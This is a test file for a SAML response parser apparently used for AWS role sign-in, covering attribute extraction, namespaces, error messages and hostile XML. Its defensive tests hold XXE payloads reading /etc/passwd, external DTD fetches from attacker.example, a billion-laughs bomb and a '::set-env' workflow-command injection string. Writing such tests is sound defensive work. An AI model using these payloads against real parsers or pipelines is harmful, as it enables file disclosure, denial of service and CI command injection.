import { thrown as thrownBy } from '../support/thrown.js'
import { describe, expect, it } from 'vitest'
import { PREFLIGHT_ERRORS } from '../../src/errors/error-catalog.js'
import { AssertionError } from '../../src/errors/run-errors.js'
import { AWS_ATTRIBUTE, parseSamlResponse } from '../../src/saml/saml-parser.js'
import {
  ASSERTION_NS,
  DURATION_ATTRIBUTE,
  EXPIRES,
  ISSUED,
  PROTOCOL_NS,
  PROVIDER_ARN,
  ROLE_ARN,
  ROLE_ATTRIBUTE,
  SESSION_NAME_ATTRIBUTE,
  SOURCE_IDENTITY_ATTRIBUTE,
  samlResponse
} from '../support/saml-fixtures.js'

const thrown = (fn: () => unknown): AssertionError => thrownBy(AssertionError, fn)

const notSaml = PREFLIGHT_ERRORS['not-saml-response']
const unsafe = PREFLIGHT_ERRORS['unsafe-xml']
const UNSAFE_MESSAGE = `${unsafe.problem}. ${unsafe.cause} ${unsafe.fix}`

const OTHER_ROLE = 'arn:aws:iam::123456789012:role/ReadOnly'
const THIRD_ROLE = 'arn:aws:iam::123456789012:role/ops/Admin'

describe('the fixture builder', () => {
  it('matches the AWS attribute names the parser uses', () => {
    expect(AWS_ATTRIBUTE).toEqual({
      role: ROLE_ATTRIBUTE,
      roleSessionName: SESSION_NAME_ATTRIBUTE,
      sessionDuration: DURATION_ATTRIBUTE,
      sourceIdentity: SOURCE_IDENTITY_ATTRIBUTE
    })
  })
})

describe('parseSamlResponse: extraction', () => {
  it('reads every field of a typical response', () => {
    const xml = samlResponse({
      responseIssueInstant: '2024-05-01T11:59:59.500Z',
      assertionIssueInstant: ISSUED,
      issuer: 'https://idp.example.com/saml/metadata',
      responseIssuer: 'https://idp.example.com/response-issuer',
      nameId: 'jane.doe@example.com',
      nameIdFormat: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
      notBefore: '2024-05-01T11:55:00Z',
      notOnOrAfter: '2024-05-01T12:05:00Z',
      subjectNotOnOrAfter: '2024-05-01T12:04:00Z',
      recipient: 'https://signin.aws.amazon.com/saml',
      audiences: [['https://signin.aws.amazon.com/saml', 'urn:amazon:webservices']],
      attributes: [
        { name: ROLE_ATTRIBUTE, values: [`${ROLE_ARN},${PROVIDER_ARN}`] },
        { name: SESSION_NAME_ATTRIBUTE, values: ['jane.doe'] },
        { name: DURATION_ATTRIBUTE, values: ['7200'] },
        { name: SOURCE_IDENTITY_ATTRIBUTE, values: ['jdoe'] },
        { name: 'https://aws.amazon.com/SAML/Attributes/PrincipalTag:team', values: ['ops'] }
      ]
    })
    expect(parseSamlResponse(xml)).toEqual({
      encrypted: false,
      issuer: 'https://idp.example.com/saml/metadata',
      nameId: 'jane.doe@example.com',
      nameIdFormat: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
      responseIssueInstant: new Date('2024-05-01T11:59:59.500Z'),
      assertionIssueInstant: new Date(ISSUED),
      notBefore: new Date('2024-05-01T11:55:00Z'),
      notOnOrAfter: new Date('2024-05-01T12:05:00Z'),
      audiences: ['https://signin.aws.amazon.com/saml', 'urn:amazon:webservices'],
      subjectNotOnOrAfter: new Date('2024-05-01T12:04:00Z'),
      roleValues: [`${ROLE_ARN},${PROVIDER_ARN}`],
      roleSessionName: 'jane.doe',
      sessionDuration: '7200',
      sourceIdentity: 'jdoe'
    })
  })

  it.each([
    ['saml:', 'saml'],
    ['saml2:', 'saml2'],
    ['a default namespace', '']
  ])('matches assertion elements written with %s', (_label, prefix) => {
    const xml = samlResponse({ prefix, audiences: [['https://signin.aws.amazon.com/saml']] })
    if (prefix) expect(xml).toContain(`<${prefix}:Assertion xmlns:${prefix}="${ASSERTION_NS}"`)
    else expect(xml).toContain(`<Assertion xmlns="${ASSERTION_NS}"`)
    const info = parseSamlResponse(xml)
    expect(info.encrypted).toBe(false)
    expect(info.issuer).toBe('http://www.okta.com/exk1abcdEFGH')
    expect(info.nameId).toBe('jane.doe@example.com')
    expect(info.audiences).toEqual(['https://signin.aws.amazon.com/saml'])
    expect(info.roleValues).toEqual([`${ROLE_ARN},${PROVIDER_ARN}`])
    expect(info.roleSessionName).toBe('jane.doe@example.com')
    expect(info.notOnOrAfter).toEqual(new Date(EXPIRES))
  })

  it('accepts any prefix for the protocol namespace', () => {
    const xml = samlResponse()
      .replace(/samlp:/g, 'saml2p:')
      .replace('xmlns:samlp=', 'xmlns:saml2p=')
    expect(xml).toContain('<saml2p:Response xmlns:saml2p=')
    expect(parseSamlResponse(xml).roleValues).toEqual([`${ROLE_ARN},${PROVIDER_ARN}`])
  })

  it('accepts a default namespace for the protocol elements', () => {
    const xml = samlResponse()
      .replace(/<samlp:/g, '<')
      .replace(/<\/samlp:/g, '</')
      .replace('xmlns:samlp=', 'xmlns=')
    expect(xml).toContain(`<Response xmlns="${PROTOCOL_NS}"`)
    const info = parseSamlResponse(xml)
    expect(info.roleSessionName).toBe('jane.doe@example.com')
  })

  it('does not match assertion elements of the right name in a wrong namespace', () => {
    const xml = samlResponse({ assertionNs: 'urn:oasis:names:tc:SAML:1.0:assertion' })
    const error = thrown(() => parseSamlResponse(xml))
    expect(error.message).toContain(
      `${notSaml.problem}: it holds 0 assertions; AWS expects exactly one`
    )
  })

  it('ignores an attribute statement in a wrong namespace inside a good assertion', () => {
    const good = samlResponse({ attributes: [] })
    const rogue =
      `<evil:AttributeStatement xmlns:evil="urn:example:evil"><evil:Attribute Name="${ROLE_ATTRIBUTE}">` +
      `<evil:AttributeValue>arn:aws:iam::999999999999:role/Evil,arn:aws:iam::999999999999:saml-provider/Evil</evil:AttributeValue>` +
      '</evil:Attribute></evil:AttributeStatement>'
    const xml = good.replace('</saml:Assertion>', `${rogue}</saml:Assertion>`)
    expect(xml).toContain(rogue)
    expect(parseSamlResponse(xml).roleValues).toBeUndefined()
  })

  it('refuses a root element of the right name in a wrong namespace', () => {
    const xml = samlResponse({ protocolNs: 'urn:oasis:names:tc:SAML:1.0:protocol' })
    expect(thrown(() => parseSamlResponse(xml)).message).toContain(
      `${notSaml.problem}: the root element is <Response>, not a samlp:Response`
    )
  })

  it('collects audiences from several AudienceRestriction elements', () => {
    const info = parseSamlResponse(
      samlResponse({
        audiences: [
          ['https://signin.aws.amazon.com/saml', '  urn:amazon:webservices  '],
          ['https://example.com/other']
        ]
      })
    )
    expect(info.audiences).toEqual([
      'https://signin.aws.amazon.com/saml',
      'urn:amazon:webservices',
      'https://example.com/other'
    ])
  })

  it('gives no audiences when there is no AudienceRestriction', () => {
    expect(parseSamlResponse(samlResponse({ audiences: [] })).audiences).toEqual([])
  })

  it('reads many Role values from one attribute', () => {
    const values = [
      `${ROLE_ARN},${PROVIDER_ARN}`,
      `${PROVIDER_ARN},${OTHER_ROLE}`,
      `${THIRD_ROLE} , ${PROVIDER_ARN}`
    ]
    const info = parseSamlResponse(samlResponse({ attributes: [{ name: ROLE_ATTRIBUTE, values }] }))
    expect(info.roleValues).toEqual(values)
  })

  it('merges Role values spread over several Attribute elements, in document order', () => {
    const info = parseSamlResponse(
      samlResponse({
        attributes: [
          { name: ROLE_ATTRIBUTE, values: [`${ROLE_ARN},${PROVIDER_ARN}`] },
          { name: SESSION_NAME_ATTRIBUTE, values: ['jane'] },
          { name: ROLE_ATTRIBUTE, values: [`${OTHER_ROLE},${PROVIDER_ARN}`, 'junk'] }
        ]
      })
    )
    expect(info.roleValues).toEqual([
      `${ROLE_ARN},${PROVIDER_ARN}`,
      `${OTHER_ROLE},${PROVIDER_ARN}`,
      'junk'
    ])
  })

  it('merges attributes from several AttributeStatement elements', () => {
    const xml = samlResponse({
      attributes: [{ name: ROLE_ATTRIBUTE, values: [`${ROLE_ARN},${PROVIDER_ARN}`] }]
    }).replace(
      '</saml:Assertion>',
      `<saml:AttributeStatement><saml:Attribute Name="${ROLE_ATTRIBUTE}"><saml:AttributeValue>` +
        `${OTHER_ROLE},${PROVIDER_ARN}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion>`
    )
    expect(parseSamlResponse(xml).roleValues).toEqual([
      `${ROLE_ARN},${PROVIDER_ARN}`,
      `${OTHER_ROLE},${PROVIDER_ARN}`
    ])
  })

  it('trims attribute values and keeps an empty one as an empty string', () => {
    const info = parseSamlResponse(
      samlResponse({
        attributes: [
          { name: ROLE_ATTRIBUTE, values: [`\n   ${ROLE_ARN},${PROVIDER_ARN}\n `, ''] },
          { name: SESSION_NAME_ATTRIBUTE, values: ['  jane  '] }
        ]
      })
    )
    expect(info.roleValues).toEqual([`${ROLE_ARN},${PROVIDER_ARN}`, ''])
    expect(info.roleSessionName).toBe('jane')
  })

  it('takes the first value of single-valued attributes', () => {
    const info = parseSamlResponse(
      samlResponse({
        attributes: [
          { name: SESSION_NAME_ATTRIBUTE, values: ['first', 'second'] },
          { name: DURATION_ATTRIBUTE, values: ['900', '43200'] },
          { name: SOURCE_IDENTITY_ATTRIBUTE, values: ['alice', 'bob'] }
        ]
      })
    )
    expect(info.roleSessionName).toBe('first')
    expect(info.sessionDuration).toBe('900')
    expect(info.sourceIdentity).toBe('alice')
  })

  it('leaves roleValues undefined when there is no Role attribute, but [] for an empty one', () => {
    const none = parseSamlResponse(
      samlResponse({ attributes: [{ name: SESSION_NAME_ATTRIBUTE, values: ['jane'] }] })
    )
    expect(none.roleValues).toBeUndefined()
    expect(none.sessionDuration).toBeUndefined()
    expect(none.sourceIdentity).toBeUndefined()
    const empty = parseSamlResponse(
      samlResponse({ attributes: [{ name: ROLE_ATTRIBUTE, values: [] }] })
    )
    expect(empty.roleValues).toEqual([])
    expect(empty.roleSessionName).toBeUndefined()
  })

  it('decodes character references in text', () => {
    const info = parseSamlResponse(
      samlResponse({
        nameId: 'a&b<c>"d"',
        attributes: [{ name: SESSION_NAME_ATTRIBUTE, values: ['x&#64;y'] }]
      }).replace('x&amp;#64;y', 'x&#64;y')
    )
    expect(info.nameId).toBe('a&b<c>"d"')
    expect(info.roleSessionName).toBe('x@y')
  })

  it('falls back to the Response Issuer when the Assertion has none', () => {
    const info = parseSamlResponse(
      samlResponse({ issuer: null, responseIssuer: 'https://idp.example.com/from-response' })
    )
    expect(info.issuer).toBe('https://idp.example.com/from-response')
  })

  it('leaves optional fields undefined when absent', () => {
    const info = parseSamlResponse(
      samlResponse({
        issuer: null,
        responseIssuer: null,
        nameId: null,
        recipient: null,
        subjectNotOnOrAfter: null,
        notBefore: null,
        notOnOrAfter: null,
        audiences: []
      })
    )
    expect(info.issuer).toBeUndefined()
    expect(info.nameId).toBeUndefined()
    expect(info.nameIdFormat).toBeUndefined()
    expect(info.subjectNotOnOrAfter).toBeUndefined()
    expect(info.notBefore).toBeUndefined()
    expect(info.notOnOrAfter).toBeUndefined()
    expect(info.responseIssueInstant).toEqual(new Date(ISSUED))
    expect(info.assertionIssueInstant).toEqual(new Date(ISSUED))
  })

  it('leaves NameID Format undefined when the attribute is absent', () => {
    const info = parseSamlResponse(samlResponse({ nameIdFormat: null }))
    expect(info.nameId).toBe('jane.doe@example.com')
    expect(info.nameIdFormat).toBeUndefined()
  })

  it('treats unparseable dates as absent', () => {
    const info = parseSamlResponse(
      samlResponse({
        responseIssueInstant: 'yesterday',
        assertionIssueInstant: 'not-a-date',
        notBefore: '2024-13-45T99:00:00Z',
        notOnOrAfter: ''
      })
    )
    expect(info.responseIssueInstant).toBeUndefined()
    expect(info.assertionIssueInstant).toBeUndefined()
    expect(info.notBefore).toBeUndefined()
    expect(info.notOnOrAfter).toBeUndefined()
    expect(info.subjectNotOnOrAfter).toEqual(new Date(EXPIRES))
  })

  it('reads dates with a time-zone offset', () => {
    const info = parseSamlResponse(samlResponse({ notOnOrAfter: '2024-05-01T14:05:00+02:00' }))
    expect(info.notOnOrAfter?.toISOString()).toBe('2024-05-01T12:05:00.000Z')
  })

  it('accepts a missing Status and an explicit Success', () => {
    expect(parseSamlResponse(samlResponse({ status: null })).encrypted).toBe(false)
    expect(
      parseSamlResponse(samlResponse({ status: 'urn:oasis:names:tc:SAML:2.0:status:Success' }))
        .encrypted
    ).toBe(false)
  })

  it('accepts comments and processing instructions before the root', () => {
    const info = parseSamlResponse(
      samlResponse({
        prolog: '<?xml version="1.0"?>\n<!-- from the IdP -->\n<?pi data?>\n'
      })
    )
    expect(info.nameId).toBe('jane.doe@example.com')
  })
})

describe('parseSamlResponse: encrypted assertions', () => {
  it('reports an EncryptedAssertion with the Response fields only', () => {
    const info = parseSamlResponse(
      samlResponse({
        assertions: 0,
        encryptedAssertions: 1,
        responseIssuer: 'https://idp.example.com/enc',
        responseIssueInstant: '2024-05-01T12:00:01Z'
      })
    )
    expect(info).toEqual({
      encrypted: true,
      audiences: [],
      issuer: 'https://idp.example.com/enc',
      responseIssueInstant: new Date('2024-05-01T12:00:01Z')
    })
  })

  it('refuses an Assertion next to an EncryptedAssertion', () => {
    const xml = samlResponse({ assertions: 1, encryptedAssertions: 1 })
    expect(thrown(() => parseSamlResponse(xml)).message).toContain(
      'it holds 2 assertions; AWS expects exactly one'
    )
  })
})

describe('parseSamlResponse: refusals', () => {
  it.each([
    ['AuthnFailed', 'urn:oasis:names:tc:SAML:2.0:status:AuthnFailed'],
    ['Requester', 'urn:oasis:names:tc:SAML:2.0:status:Requester'],
    ['Responder', 'urn:oasis:names:tc:SAML:2.0:status:Responder']
  ])('refuses a %s status', (_label, status) => {
    const error = thrown(() => parseSamlResponse(samlResponse({ status, assertions: 0 })))
    const entry = PREFLIGHT_ERRORS['idp-status']
    expect(error.message).toBe(
      `${entry.problem}: status ${JSON.stringify(status)}. ${entry.cause} ${entry.fix}`
    )
  })

  it('quotes a hostile status value', () => {
    // A literal line break in an attribute is normalised to a space; a character reference is not.
    const status = 'x"\n::set-env name=EVIL::1'
    const xml = samlResponse({ status: 'x"NEWLINE::set-env name=EVIL::1' }).replace(
      'NEWLINE',
      '&#10;'
    )
    const error = thrown(() => parseSamlResponse(xml))
    expect(error.message).toContain(`status ${JSON.stringify(status)}`)
    expect(error.message.split('\n').some(line => line.startsWith('::'))).toBe(false)
  })

  it('checks the status before counting assertions', () => {
    const xml = samlResponse({
      status: 'urn:oasis:names:tc:SAML:2.0:status:Requester',
      assertions: 2
    })
    expect(thrown(() => parseSamlResponse(xml)).message).toContain(
      PREFLIGHT_ERRORS['idp-status'].problem
    )
  })

  it('refuses a bare Assertion', () => {
    const response = samlResponse()
    const start = response.indexOf('<saml:Assertion')
    const end = response.indexOf('</saml:Assertion>') + '</saml:Assertion>'.length
    const bare = response.slice(start, end)
    expect(bare).toMatch(/^<saml:Assertion xmlns:saml=/)
    expect(thrown(() => parseSamlResponse(bare)).message).toBe(
      `${notSaml.problem}: the root element is <Assertion>, not a samlp:Response. ${notSaml.cause} ${notSaml.fix}`
    )
  })

  it('refuses a LogoutResponse', () => {
    expect(
      thrown(() => parseSamlResponse(samlResponse({ rootName: 'LogoutResponse' }))).message
    ).toContain('the root element is <LogoutResponse>, not a samlp:Response')
  })

  it('refuses an HTML page', () => {
    const html = '<html><head><title>Sign in</title></head><body><form></form></body></html>'
    expect(thrown(() => parseSamlResponse(html)).message).toContain(
      'the root element is <html>, not a samlp:Response'
    )
  })

  it('refuses a Response without an assertion', () => {
    expect(thrown(() => parseSamlResponse(samlResponse({ assertions: 0 }))).message).toContain(
      'it holds 0 assertions; AWS expects exactly one'
    )
  })

  it('refuses two assertions', () => {
    expect(thrown(() => parseSamlResponse(samlResponse({ assertions: 2 }))).message).toContain(
      'it holds 2 assertions; AWS expects exactly one'
    )
  })

  it('refuses two encrypted assertions', () => {
    const xml = samlResponse({ assertions: 0, encryptedAssertions: 2 })
    expect(thrown(() => parseSamlResponse(xml)).message).toContain(
      'it holds 2 assertions; AWS expects exactly one'
    )
  })

  const secretish = 'SECRET-jane.doe@example.com-SIGNATURE'
  // Where and on what the parser stopped, quoted as data; text content (a secret) never shown.
  it.each([
    [
      'an unclosed element',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}"><x>${secretish}</samlp:Response>`,
      ' (tags do not match at line 1, column 108, at "</samlp:Response")'
    ],
    [
      'mismatched tags',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}"><a>${secretish}</b></samlp:Response>`,
      ' (tags do not match at line 1, column 108, at "</b")'
    ],
    [
      'a truncated document',
      samlResponse({ nameId: secretish }).slice(0, -60),
      / \(tags do not match at line \d+, column \d+, at "<\/s"\)$/
    ],
    [
      'an unbound prefix',
      `<samlp:Response ID="${secretish}"/>`,
      ' (undeclared namespace prefix at line 1, column 1, at "<samlp:Response")'
    ],
    [
      'an unbound prefix on a nested element (ADFS with saml2: undeclared)',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}">\n  <saml2:Issuer>${secretish}</saml2:Issuer></samlp:Response>`,
      ' (undeclared namespace prefix at line 2, column 3, at "<saml2:Issuer")'
    ],
    [
      'an unbound attribute prefix',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}"><v xsi:type="xs:string">${secretish}</v></samlp:Response>`,
      ' (undeclared namespace prefix at line 1, column 71, at "xsi:type")'
    ],
    [
      'two root elements',
      `<a>${secretish}</a><b/>`,
      ' (more than one root element at line 1, column 45, at "<b")'
    ],
    [
      'an undeclared entity',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}">${secretish}&nbsp;</samlp:Response>`,
      ' (unknown entity at line 1, column 105, at "&nbsp;")'
    ],
    [
      'a duplicate attribute',
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}" ID="${secretish}" ID="x"/>`,
      ' (an attribute appears twice at line 1, column 1, at "<samlp:Response")'
    ],
    ['plain text', secretish, ' (no root element)'],
    ['an empty string', '', ' (no root element)']
  ])('refuses %s, saying where, without quoting the text', (_label, xml, detail) => {
    const error = thrown(() => parseSamlResponse(xml))
    const rest = `. ${notSaml.cause} ${notSaml.fix}`
    expect(error.message.startsWith(`${notSaml.problem}: the XML is not well-formed`)).toBe(true)
    expect(error.message.endsWith(rest)).toBe(true)
    const said = error.message.slice(
      `${notSaml.problem}: the XML is not well-formed`.length,
      -rest.length
    )
    if (typeof detail === 'string') expect(said).toBe(detail)
    else expect(said).toMatch(detail)
    expect(error.message).not.toContain('SECRET')
    expect(error.message).not.toContain('samlp:Response xmlns')
  })
})

describe('parseSamlResponse: hostile XML', () => {
  /** Parse, expecting the unsafe-xml refusal, and how long it took. */
  function refuseUnsafe(xml: string): number {
    const start = performance.now()
    const error = thrown(() => parseSamlResponse(xml))
    const elapsed = performance.now() - start
    expect(error.message).toBe(UNSAFE_MESSAGE)
    return elapsed
  }

  const response = samlResponse({ prolog: '' })

  it.each(['<!DOCTYPE', '<!doctype', '<!DocType'])('refuses a DOCTYPE written %s', doctype => {
    refuseUnsafe(`${doctype} samlp:Response>\n${response}`)
  })

  it('refuses an internal subset with harmless-looking entities', () => {
    refuseUnsafe(
      `<?xml version="1.0"?>\n<!DOCTYPE samlp:Response [<!ENTITY who "jane">]>\n` +
        response.replace('jane.doe@example.com</saml:NameID>', '&who;</saml:NameID>')
    )
  })

  it('refuses billion laughs quickly, without expanding it', () => {
    const levels = Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`
    ).join('\n')
    const xml =
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 "lol">\n${levels}\n]>\n` +
      `<samlp:Response xmlns:samlp="${PROTOCOL_NS}">&lol9;</samlp:Response>`
    expect(refuseUnsafe(xml)).toBeLessThan(200)
  })

  it('refuses XXE with SYSTEM "file:///etc/passwd" and leaks nothing', () => {
    const xml =
      `<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n` +
      response.replace('jane.doe@example.com</saml:NameID>', '&xxe;</saml:NameID>')
    const start = performance.now()
    const error = thrown(() => parseSamlResponse(xml))
    expect(performance.now() - start).toBeLessThan(200)
    expect(error.message).toBe(UNSAFE_MESSAGE)
    expect(error.message).not.toMatch(/root:|\/bin\/|passwd|file:/)
  })

  it('refuses an external parameter entity', () => {
    refuseUnsafe(
      `<?xml version="1.0"?>\n<!DOCTYPE foo [<!ENTITY % ext SYSTEM "http://attacker.example/evil.dtd"> %ext;]>\n${response}`
    )
  })

  it('refuses an external DTD with a public identifier', () => {
    refuseUnsafe(
      `<!DOCTYPE samlp:Response PUBLIC "-//EVIL//DTD//EN" "http://attacker.example/saml.dtd">\n${response}`
    )
  })

  it('refuses an ENTITY declaration even without a DOCTYPE', () => {
    refuseUnsafe(`<!ENTITY xxe SYSTEM "file:///etc/passwd">\n${response}`)
  })

  it('refuses a DOCTYPE hidden after a comment', () => {
    refuseUnsafe(
      `<?xml version="1.0"?>\n<!-- generated by the IdP -->\n<!DOCTYPE foo [<!ENTITY a "b">]>\n${response}`
    )
  })

  it('refuses a DOCTYPE hidden after a processing instruction', () => {
    refuseUnsafe(
      `<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="x.xsl"?>\n<!DOCTYPE foo SYSTEM "file:///etc/passwd">\n${response}`
    )
  })

  it('refuses a DOCTYPE after a byte order mark and whitespace', () => {
    refuseUnsafe(`\uFEFF \n\t<!DOCTYPE foo>\n${response}`)
  })

  it('refuses a DOCTYPE even inside a comment (it is never legitimate)', () => {
    refuseUnsafe(`<!-- <!DOCTYPE foo> -->\n${response}`)
  })

  it('refuses an entity used without a DOCTYPE, in text or in an attribute', () => {
    for (const xml of [
      response.replace('jane.doe@example.com</saml:NameID>', '&xxe;</saml:NameID>'),
      response.replace('<saml:NameID ', '<saml:NameID SPNameQualifier="&xxe;" ')
    ]) {
      const error = thrown(() => parseSamlResponse(xml))
      expect(error.message).toMatch(
        /not well-formed \(unknown entity at line \d+, column \d+, at "&xxe;"\)/
      )
    }
  })

  it.each([
    ['a comment', 'adm<!---->in'],
    ['a processing instruction', 'adm<?pi x?>in'],
    ['a CDATA section', 'adm<![CDATA[in]]>'],
    ['character references', '&#97;dm&#x69;n']
  ])('reads a NameID split by %s as the concatenation of its text', (_label, written) => {
    const xml = response.replace('>jane.doe@example.com</saml:NameID>', `>${written}</saml:NameID>`)
    expect(xml).toContain(written)
    expect(parseSamlResponse(xml).nameId).toBe('admin')
  })

  it('follows a saml prefix declared again mid-document to another namespace', () => {
    // The Subject's own declaration wins: it and its NameID are not SAML assertion elements.
    const rebound = response.replace(
      '<saml:Subject>',
      '<saml:Subject xmlns:saml="urn:example:evil">'
    )
    expect(rebound).toContain('<saml:Subject xmlns:saml="urn:example:evil">')
    const info = parseSamlResponse(rebound)
    expect(info.nameId).toBeUndefined()
    expect(info.issuer).toBe('http://www.okta.com/exk1abcdEFGH')
    expect(parseSamlResponse(response).nameId).toBe('jane.doe@example.com')
  })

  it('reads a Response with a byte order mark and CRLF line ends', () => {
    const xml = `\uFEFF<?xml version="1.0"?>\r\n${response.replace(/\n/g, '\r\n')}`
    expect(parseSamlResponse(xml).roleValues).toEqual([`${ROLE_ARN},${PROVIDER_ARN}`])
  })

  it('refuses elements nested 100,000 deep with where, not a stack overflow', () => {
    const deep = response.replace('</saml:NameID>', `</saml:NameID>${'<x>'.repeat(100_000)}`)
    expect(thrown(() => parseSamlResponse(deep)).message).toMatch(
      /not well-formed \(nested too deeply at line \d+, column \d+, at "<x"\)/
    )
  })

  it('does not confuse escaped markup in text with a DOCTYPE', () => {
    const info = parseSamlResponse(samlResponse({ nameId: '<!DOCTYPE x>' }))
    expect(info.nameId).toBe('<!DOCTYPE x>')
  })
})
